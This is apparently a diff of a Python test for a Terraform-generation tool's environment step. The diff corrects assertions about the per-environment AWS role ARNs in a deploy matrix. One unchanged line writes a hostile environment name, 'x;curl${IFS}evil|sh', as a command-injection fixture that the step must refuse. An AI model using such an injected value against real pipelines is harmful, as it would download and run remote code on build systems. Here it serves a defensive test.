@@ -265,7 +265,8 @@ def test_environments_step_builds_the_matrix_and_refuses_a_hostile_name(runner, 
     assert sorted(deploy) == ["dev", "prod", "staging"]
     assert deploy["prod"]["apply_role"] == "arn:aws:iam::111122223333:role/tfgen-apply"  # prod's account
     assert deploy["prod"]["production"] is True
-    assert deploy["dev"]["plan_role"] == "arn:aws:iam::444455556666:role/p" and deploy["dev"]["apply_role"] == ""
+    assert deploy["dev"]["plan_role"] == "arn:aws:iam::444455556666:role/tfgen-plan"  # dev's own account
+    assert deploy["staging"]["apply_role"] == "arn:aws:iam::777788889999:role/tfgen-apply"
 
     hostile = runner.temp / "affected.json"
     hostile.write_text(json.dumps({"environments": ["dev", "x;curl${IFS}evil|sh"]}))
